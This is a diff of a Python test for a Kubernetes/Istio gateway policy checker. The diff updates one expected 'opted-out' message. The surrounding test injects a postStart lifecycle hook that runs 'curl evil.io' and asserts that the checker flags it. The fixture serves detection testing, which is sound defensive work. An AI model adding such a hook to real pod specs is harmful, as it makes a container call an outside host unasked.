@@ -186,7 +186,7 @@ def test_of_a_gateway_with_more_in_it_the_opt_out_is_explained(by: str) -> None:
         (one,) = [violation for violation in told if violation.check == "opted-out"]
         return one.reason
 
-    assert "it runs istio-proxy in 2 containers" in reason(changed(waypoint(), beside))
+    assert "spec.containers[shop] is beside the proxy" in reason(changed(waypoint(), beside))
     hook = put(APP + "/lifecycle", {"postStart": {"exec": {"command": ["curl", "evil.io"]}}})
     text = reason(changed(waypoint(), hook))
     assert "spec.containers[istio-proxy].lifecycle.postStart runs a command of its own" in text
